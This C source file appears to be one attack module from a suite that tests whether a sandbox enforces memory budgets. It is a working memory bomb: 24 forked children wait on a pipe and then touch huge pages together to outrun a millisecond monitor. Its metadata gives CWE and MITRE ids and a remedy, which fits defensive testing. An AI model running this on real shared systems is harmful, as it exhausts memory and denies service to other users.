// SPDX-License-Identifier: MIT
/*
 * huge-at-once.c - faster than who looks every millisecond.
 *
 * Goal:  more memory than the budget.
 * Means: 24 children that were waiting touch eight huge pages each, at once: 2 MiB at a touch, or
 *        where there are none left, a page of them.
 */
#include "attacks/attack.h"
#include "attacks/memory-bomb/heap.h"

#include <sys/mman.h>
#include <unistd.h>

enum { CHILDREN = 24, MIB = 16 };

static _Noreturn void grow(int gate, int grown)
{
	char byte, *range = mmap(NULL, (size_t)(MIB + 2) << 20, PROT_READ | PROT_WRITE,
				 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	range = (char *)(((unsigned long)range + (2 << 20) - 1) & ~((2ul << 20) - 1));
	madvise(range, (size_t)MIB << 20, MADV_HUGEPAGE);
	while (read(gate, &byte, 1) < 0)
		continue;
	for (size_t at = 0; at < (size_t)MIB << 20; at += PAGE)
		range[at] = 1;
	close(grown);
	sleep(9);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	int gate[2], grown[2];

	if (pipe(gate) || pipe(grown))
		return failed("pipe");
	attempting(b);
	for (int i = 0; i < CHILDREN; i++) {
		pid_t child = fork();

		if (child < 0)
			return denied("fork");
		if (child == 0) {
			close(gate[1]);
			grow(gate[0], grown[1]);
		}
	}
	usleep(100000);
	close(gate[1]);
	await_growth(grown);
	return hold();
}

const struct attack attack = {
	.effect = "more memory than the budget",
	.means = "children that wait, and touch huge pages all at once",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "a memory cgroup; no MADV_HUGEPAGE",
	.refs = (const char *const[]){ "madvise(2)", NULL },
	.run = run,
};
